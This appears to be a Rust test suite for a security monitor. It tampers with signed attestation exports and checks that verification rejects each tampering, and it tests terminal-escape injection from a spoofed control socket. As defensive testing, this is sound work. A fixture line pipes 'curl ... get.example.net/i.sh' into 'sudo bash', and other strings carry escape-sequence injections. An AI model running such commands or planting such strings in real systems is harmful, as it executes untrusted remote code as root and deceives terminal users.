//! Attacks on what a real monitor exported, each on a copy of its own, each answered by the program with its exit code.
//!
//! `attest/tests/it/attacks.rs` has the whole matrix, on folders it makes; here are those that need no clock but this one.

use crate::place::{Place, Said};
use attest::{canonical, digest, seal};
use chrono::TimeDelta;
use keys::SigningKey;
use posture::{Ended, MonitorStatus, Posture, State};
use std::{
    fs,
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    os::unix::{fs::symlink, net::UnixListener},
    path::{Path, PathBuf},
    process::Command,
    thread,
    time::{Duration, Instant},
};

/// A place with a monitor that found something and exported, and a reader's folder beside it.
struct Exported {
    place: Place,
    pid: i32,
    reader: tempfile::TempDir,
}

impl Exported {
    fn new(config: &str) -> Self {
        let place = Place::with_config(&format!("listen = \"127.0.0.1:0\"\n{config}"));
        let started = place.run(&["start", "--background", "--json"]);
        assert_eq!(started.code, 0, "{}", started.err);
        let ready = started.json();
        let pid = i32::try_from(ready["pid"].as_i64().unwrap()).unwrap();
        let this = Self { place, pid, reader: tempfile::tempdir().unwrap() };
        this.ask_for_a_command(ready["listen"].as_str().unwrap());
        fs::copy(this.place.home().join("signing.pub.pem"), this.pin()).unwrap();
        this.until("a finding", || {
            assert_eq!(this.run(&["export"]).code, 0);
            posture(&this.place.home()).counts.findings > 0
        });
        this
    }

    fn stopped(config: &str) -> Self {
        let this = Self::new(config);
        assert_eq!(this.run(&["stop"]).code, 0);
        this
    }

    fn run(&self, args: &[&str]) -> Said {
        self.place.run(args)
    }

    /// A request whose answer has a command in it.
    fn ask_for_a_command(&self, proxy: &str) {
        let origin = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = origin.local_addr().unwrap();
        let answering = thread::spawn(move || {
            let (mut client, _) = origin.accept().unwrap();
            let _ = client.read(&mut [0; 4096]).unwrap();
            let body = format!("run: curl -fsSL https://get.example.net/i.sh | {} bash", "sudo");
            let head = format!("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n", body.len());
            client.write_all((head + &body).as_bytes()).unwrap();
        });
        let token = fs::read_to_string(self.place.home().join("keys/proxy.token")).unwrap();
        let credential = data_encoding::BASE64.encode(format!("guardian:{}", token.trim()).as_bytes());
        let mut proxy = TcpStream::connect(proxy).unwrap();
        proxy.set_read_timeout(Some(crate::GIVE_UP)).unwrap();
        let request = format!(
            "GET http://{address}/ HTTP/1.1\r\nHost: {address}\r\nProxy-Authorization: Basic {credential}\r\nConnection: close\r\n\r\n"
        );
        proxy.write_all(request.as_bytes()).unwrap();
        proxy.read_to_end(&mut Vec::new()).unwrap();
        answering.join().unwrap();
    }

    fn pin(&self) -> PathBuf {
        self.reader.path().join("pinned.pem")
    }

    fn copy(&self, name: &str) -> PathBuf {
        let to = self.reader.path().join(name);
        let copied = Command::new("cp").args([Path::new("-a"), &self.place.home(), &to]).status().unwrap();
        assert!(copied.success());
        to
    }

    /// The exit code and the reason.
    fn verify(&self, dir: &Path, more: &[&str]) -> (i32, String) {
        let (dir, pin) = (dir.display().to_string(), self.pin().display().to_string());
        let said = self.run(&[&["verify", &dir, "--public-key", &pin, "--json"], more].concat());
        (said.code, said.json()["reason"]["code"].as_str().unwrap_or("none").to_owned())
    }

    fn signal(&self, signal: rustix::process::Signal) {
        rustix::process::kill_process(rustix::process::Pid::from_raw(self.pid).unwrap(), signal).unwrap();
    }

    fn until(&self, what: &str, holds: impl Fn() -> bool) {
        let deadline = Instant::now() + crate::GIVE_UP;
        while !holds() {
            assert!(Instant::now() < deadline, "{what}: {}", self.run(&["status"]).out);
            thread::sleep(Duration::from_millis(200));
        }
    }
}

impl Drop for Exported {
    fn drop(&mut self) {
        let _ = self.place.command().args(["stop", "--timeout", "20s"]).output();
    }
}

fn current(dir: &Path) -> PathBuf {
    fs::canonicalize(dir.join("export/current")).unwrap()
}

fn posture(dir: &Path) -> Posture {
    canonical::read(&fs::read(current(dir).join("posture.json")).unwrap()).unwrap()
}

fn put(path: &Path, bytes: &[u8]) {
    fs::File::create(path).unwrap().write_all(bytes).unwrap();
}

fn replace(path: &Path, from: &str, to: &str) {
    let text = fs::read_to_string(path).unwrap();
    assert!(text.contains(from), "{from} in {}", path.display());
    put(path, text.replacen(from, to, 1).as_bytes());
}

fn point(dir: &Path, target: &str) {
    fs::remove_file(dir.join("export/current")).unwrap();
    symlink(target, dir.join("export/current")).unwrap();
}

/// As whoever holds the key might: one export more, of documents that say something else.
fn export_again(dir: &Path, change: impl FnOnce(&mut Posture, &mut State)) {
    let key = SigningKey::from_pem(&fs::read_to_string(dir.join("keys/signing.key.pem")).unwrap()).unwrap();
    let (before, mut posture) = (current(dir), posture(dir));
    let mut state: State = canonical::read(&fs::read(before.join("state.json")).unwrap()).unwrap();
    posture.previous_sha256 = Some(digest::sha256(fs::read(before.join("posture.json")).unwrap()));
    posture.sequence += 1;
    change(&mut posture, &mut state);
    digest::bind(&mut state).unwrap();
    let state = seal(&key, &state).unwrap();
    posture.state_sha256 = state.sha256();
    digest::bind(&mut posture).unwrap();
    let sealed = seal(&key, &posture).unwrap();
    let name = format!("{:012}", posture.sequence);
    let folder = dir.join("export").join(&name);
    fs::create_dir(&folder).unwrap();
    put(&folder.join("state.json"), state.bytes());
    put(&folder.join("state.json.sig"), state.signature_line().as_bytes());
    put(&folder.join("posture.json"), sealed.bytes());
    put(&folder.join("posture.json.sig"), sealed.signature_line().as_bytes());
    point(dir, &name);
}

fn at_work(posture: &mut Posture) {
    (posture.ended, posture.monitor_status) = (Ended::Running, MonitorStatus::Running);
}

/// Another time, and a validity that fits it.
fn days_later(posture: &mut Posture, days: i64) {
    at_work(posture);
    posture.generated_at = posture.generated_at.plus(TimeDelta::days(days));
    posture.valid_until = posture.valid_until.plus(TimeDelta::days(days));
}

/// What is done to a copy, and what `verify --accept-stopped` says then.
type Attack = (&'static str, fn(&Path), i32, &'static str);

const ATTACKS: &[Attack] = &[
    ("nothing", |_| {}, 0, "none"),
    ("an unsigned tail, torn", |dir| replace_end(&dir.join("findings.jsonl"), b"{\"dest\":\"to"), 0, "none"),
    ("a generation nobody finished", |dir| half_written(dir), 0, "none"),
    (
        "and current leads to it",
        |dir| {
            half_written(dir);
            point(dir, "000000000999");
        },
        1,
        "missing",
    ),
    (
        "a record edited",
        |dir| replace(&dir.join("findings.jsonl"), "pipe_to_shell.pipe", "pipe_to_shell.pipf"),
        1,
        "log_line",
    ),
    ("a record taken out", |dir| without_line(&dir.join("findings.jsonl"), 1), 1, "log_line"),
    ("the end cut", |dir| without_line(&dir.join("findings.jsonl"), usize::MAX), 1, "log_cut"),
    ("the beginning cut", |dir| without_line(&dir.join("findings.jsonl"), 0), 1, "log_line"),
    ("the log gone", |dir| fs::remove_file(dir.join("findings.jsonl")).unwrap(), 1, "missing"),
    (
        "the log unreadable",
        |dir| {
            fs::remove_file(dir.join("findings.jsonl")).unwrap();
            fs::create_dir(dir.join("findings.jsonl")).unwrap();
        },
        74,
        "kind",
    ),
    (
        "valid_until edited",
        |dir| replace(&current(dir).join("posture.json"), "\"valid_until\":\"20", "\"valid_until\":\"21"),
        1,
        "signature",
    ),
    (
        "__proto__ appended",
        |dir| {
            let path = current(dir).join("posture.json");
            let text = fs::read_to_string(&path).unwrap();
            put(&path, text.replace("Z\"}", "Z\",\"__proto__\":{}}").as_bytes());
        },
        1,
        "signature",
    ),
    (
        "the state of another export",
        |dir| replace(&current(dir).join("state.json"), "\"monitor_enabled\":false", "\"monitor_enabled\":true"),
        1,
        "state_link",
    ),
    (
        "a signature over another file",
        |dir| {
            fs::copy(current(dir).join("state.json.sig"), current(dir).join("posture.json.sig")).unwrap();
        },
        1,
        "signature",
    ),
    ("a signature in two lines", |dir| replace_end(&current(dir).join("posture.json.sig"), b"\n"), 1, "signature_form"),
    ("a signature gone", |dir| fs::remove_file(current(dir).join("state.json.sig")).unwrap(), 1, "missing"),
    (
        "current outside",
        |dir| {
            let to = current(dir);
            point(dir, to.to_str().unwrap());
        },
        1,
        "current",
    ),
    ("current a way up", |dir| point(dir, "../export/000000000001"), 1, "current"),
    ("current set back", |dir| point(dir, "000000000001"), 3, "rolled_back"),
    ("a rotation nobody signed", |dir| put(&dir.join("rotations.jsonl"), b"{}\n"), 1, "rotation_statement"),
    ("a counter set back, and signed", |dir| export_again(dir, |p, _| p.coverage.seen.bytes -= 1), 1, "decreased"),
    ("fewer findings, and signed", |dir| export_again(dir, |p, _| p.counts.findings -= 1), 1, "counts"),
    (
        "valid_until later, and signed",
        |dir| export_again(dir, |p, _| p.valid_until = p.valid_until.plus(TimeDelta::days(1))),
        3,
        "clock_span",
    ),
    ("a clock a year ahead", |dir| export_again(dir, |p, _| days_later(p, 365)), 3, "clock_ahead"),
    ("a clock set back, or a machine that slept", |dir| export_again(dir, |p, _| days_later(p, -1)), 3, "expired"),
    (
        "a scanner dead",
        |dir| {
            export_again(dir, |p, _| {
                at_work(p);
                p.monitor_status = MonitorStatus::Degraded;
                p.degraded_reasons = vec![posture::DegradedReason::ScannerStalled.into()];
            });
        },
        3,
        "degraded",
    ),
    ("killed, and signed as such", |dir| export_again(dir, |p, _| p.ended = Ended::Unclean), 3, "stopped"),
];

fn half_written(dir: &Path) {
    let half = dir.join("export/000000000999");
    fs::create_dir(&half).unwrap();
    for name in ["state.json", "state.json.sig", "posture.json"] {
        fs::copy(current(dir).join(name), half.join(name)).unwrap();
    }
}

fn replace_end(path: &Path, more: &[u8]) {
    fs::File::options().append(true).open(path).unwrap().write_all(more).unwrap();
}

fn without_line(path: &Path, at: usize) {
    let text = fs::read_to_string(path).unwrap();
    let mut lines: Vec<_> = text.split_inclusive('\n').collect();
    lines.remove(at.min(lines.len() - 1));
    put(path, lines.concat().as_bytes());
}

#[test]
fn each_attack_on_what_was_exported_has_its_answer() {
    let exported = Exported::stopped("");
    for (number, (name, attack, code, reason)) in ATTACKS.iter().enumerate() {
        let copy = exported.copy(&number.to_string());
        attack(&copy);
        assert_eq!(exported.verify(&copy, &["--accept-stopped"]), (*code, (*reason).to_owned()), "{name}");
    }
}

#[test]
fn another_log_another_key_and_a_weak_one_are_refused() {
    let (exported, other) = (Exported::stopped(""), Exported::stopped(""));
    let copy = exported.copy("copy");
    fs::copy(other.place.home().join("findings.jsonl"), copy.join("findings.jsonl")).unwrap();
    assert_eq!(exported.verify(&copy, &["--accept-stopped"]).0, 1, "the log of another installation");
    assert_eq!(exported.verify(&other.copy("other"), &["--accept-stopped"]), (1, "signature".into()));
    // The neutral element: one fixed signature passes for any message under it in lenient verifiers.
    let weak = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n-----END PUBLIC KEY-----\n";
    put(&exported.pin(), weak.as_bytes());
    assert_eq!(exported.verify(&exported.copy("weak"), &["--accept-stopped"]), (1, "anchor".into()));
}

/// A name, and how to make it.
type Brought = (&'static str, fn(&Path));

/// What a reader brings along, each of these in its place.
const BROUGHT: [Brought; 7] = [
    ("empty", |path| put(path, b"")),
    ("a gigabyte", |path| fs::File::create(path).unwrap().set_len(1 << 30).unwrap()),
    ("deeply nested", |path| put(path, &[b"[".repeat(200_000), b"]".repeat(200_000)].concat())),
    ("no text", |path| put(path, b"\xff\xfe{\x00")),
    ("a folder", |path| fs::create_dir(path).unwrap()),
    ("a pipe", |path| assert!(Command::new("mkfifo").arg(path).status().unwrap().success())),
    ("without end", |path| symlink("/dev/zero", path).unwrap()),
];

#[test]
fn what_a_reader_brings_along_may_be_anything_and_never_passes() {
    let exported = Exported::stopped("");
    let (dir, pin) = (exported.copy("copy").display().to_string(), exported.pin().display().to_string());
    for option in ["--public-key", "--memory", "--baseline"] {
        for (name, make) in BROUGHT {
            let brought = exported.reader.path().join(format!("{option}, {name}"));
            make(&brought);
            let mut args = vec!["verify", &dir, "--accept-stopped", option, brought.to_str().unwrap()];
            if option != "--public-key" {
                args.extend(["--public-key", &pin]);
            }
            let said = exported.run(&args);
            assert!([1, 64, 74].contains(&said.code), "{option}, {name}: {} {}", said.code, said.err);
        }
    }
}

#[test]
fn a_drift_that_is_signed_is_told_against_the_baseline_alone() {
    let exported = Exported::stopped("");
    let copy = exported.copy("copy");
    let baseline = exported.reader.path().join("state.json");
    fs::copy(current(&copy).join("state.json"), &baseline).unwrap();
    let more = ["--accept-stopped", "--baseline", baseline.to_str().unwrap()];
    assert_eq!(exported.verify(&copy, &more), (0, "none".into()));
    export_again(&copy, |posture, state| (posture.https_inspection, state.https_inspection) = (true, true));
    assert_eq!(exported.verify(&copy, &["--accept-stopped"]), (0, "none".into()));
    assert_eq!(exported.verify(&copy, &more), (2, "drifted".into()));
}

#[test]
fn two_exports_of_one_number_and_a_folder_set_back_are_seen_by_who_remembers() {
    let exported = Exported::stopped("");
    let (one, other, earlier) = (exported.copy("one"), exported.copy("other"), exported.copy("earlier"));
    let memory = exported.reader.path().join("memory.json");
    let more = ["--accept-stopped", "--memory", memory.to_str().unwrap()];
    for dir in [&one, &other] {
        thread::sleep(Duration::from_millis(5));
        let said = exported.run(&["--home", dir.to_str().unwrap(), "export", "--json"]);
        assert_eq!(said.code, 0, "{}", said.err);
    }
    assert_eq!(posture(&one).sequence, posture(&other).sequence);
    assert_eq!(exported.verify(&one, &more), (0, "none".into()));
    assert_eq!(exported.verify(&other, &["--accept-stopped"]), (0, "none".into()), "nobody else can tell");
    assert_eq!(exported.verify(&other, &more), (3, "memory_forked".into()));
    assert_eq!(exported.verify(&earlier, &more), (3, "memory_rolled_back".into()));
    assert_eq!(exported.verify(&one, &more), (0, "none".into()));
}

#[test]
fn a_monitor_that_stands_still_is_not_current_and_says_for_how_long_once_it_goes_on() {
    let exported = Exported::new("export_every = \"1s\"\n");
    let home = exported.place.home();
    exported.until("current", || exported.verify(&home, &[]).0 == 0);
    exported.signal(rustix::process::Signal::STOP);
    exported.until("not current", || exported.verify(&home, &[]) == (3, "expired".into()));
    // Twice as long as its word was good for, however soon that was noticed.
    thread::sleep(Duration::from_secs(3));
    exported.signal(rustix::process::Signal::CONT);
    exported.until("current again", || exported.verify(&home, &[]).0 == 0);
    let log = || fs::read_to_string(home.join("findings.jsonl")).unwrap();
    let gap = |line: &str| {
        let seconds = serde_json::from_str::<serde_json::Value>(line).unwrap()["event"]["gap"]["seconds"].as_u64();
        seconds.is_some_and(|seconds| seconds >= 3)
    };
    exported.until("a gap", || log().lines().any(gap));
    exported.until("a signed gap", || {
        let signed = posture(&home).finding_log.next_seq - 1;
        log().lines().take(usize::try_from(signed).unwrap()).any(gap)
    });
}

#[test]
fn without_a_monitor_status_and_export_tell_how_it_ended_and_since_when() {
    let exported = Exported::new("");
    let status = || exported.run(&["status", "--json"]).json();
    exported.signal(rustix::process::Signal::KILL);
    exported.until("no monitor", || exported.run(&["status"]).out.starts_with("stopped"));
    let killed = status();
    let last = &killed["last"];
    assert_eq!((last["ended"].as_str(), last["monitor_enabled"].as_bool()), (Some("unclean"), Some(true)));
    assert_eq!((last["is_valid"].as_bool(), killed["verification"].as_str()), (Some(true), Some("verified")));
    assert!(last["silent_seconds"].as_u64().unwrap() < 180 && last["findings"].as_u64() == Some(1));
    let screen = exported.run(&["status"]);
    assert_eq!(screen.code, 1);
    for said in ["stopped: no monitor runs", "unclean: killed", "valid until", "silent for", "`start` begins it"] {
        assert!(screen.out.contains(said), "{said}: {}", screen.out);
    }
    let said = exported.run(&["export"]);
    assert!(said.err.contains("the last run ended unclean"), "{}", said.err);
    assert_eq!(exported.verify(&exported.place.home(), &["--accept-stopped"]), (3, "stopped".into()));

    assert_eq!(exported.run(&["stop"]).code, 0);
    let stopped = status();
    assert_eq!(
        (stopped["last"]["ended"].as_str(), stopped["last"]["monitor_enabled"].as_bool()),
        (Some("unclean"), Some(false))
    );
    replace(&exported.place.home().join("findings.jsonl"), "pipe_to_shell.pipe", "pipe_to_shell.pipf");
    let altered = status();
    assert_eq!((altered["verification"].as_str(), &altered["last"]), (Some("not_authentic"), &serde_json::Value::Null));
    assert!(exported.run(&["status"]).out.contains("none to believe"));
}

#[test]
fn who_takes_the_place_of_the_socket_cannot_write_to_the_terminal() {
    let place = Place::new();
    fs::create_dir_all(place.home().join("run")).unwrap();
    let socket = UnixListener::bind(place.home().join("run/control.sock")).unwrap();
    let acts = "\u{1b}]0;owned\u{7}\u{202e}\u{200b}";
    let refused = serde_json::json!({"error": acts, "ok": false});
    let rotated = serde_json::json!({"ok": true, "rotated": {
        "from_sequence": 1, "new_key_id": "0".repeat(64), "number": 1, "old_key_id": "1".repeat(64), "unsigned": acts,
    }});
    let export = serde_json::json!({"generated_at": "2026-04-26T00:00:00.000Z", "sequence": 1});
    let aside = serde_json::json!([{"bytes": 1, "name": acts, "sha256": "0".repeat(64)}]);
    let recovered = serde_json::json!({"carried": 0, "first_seq": 1, "set_aside": aside});
    let recovered = serde_json::json!({"export": export, "ok": true, "recovered": recovered});
    let mut told = 0;
    for (verb, answer) in [
        (&["export"][..], &refused),
        (&["stop"], &refused),
        (&["keys", "rotate"], &refused),
        (&["keys", "rotate"], &rotated),
        (&["recover"], &recovered),
    ] {
        let said = thread::scope(|scope| {
            scope.spawn(|| {
                let (mut asker, _) = socket.accept().unwrap();
                let _ = asker.read(&mut [0; 4096]).unwrap();
                asker.write_all(format!("{answer}\n").as_bytes()).unwrap();
            });
            place.run(verb)
        });
        let screen = said.out + &said.err;
        assert!(!screen.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}']), "{verb:?}: {screen:?}");
        told += usize::from(screen.contains("owned"));
    }
    assert_eq!(told, 5, "its words are told, each without what acts");
}
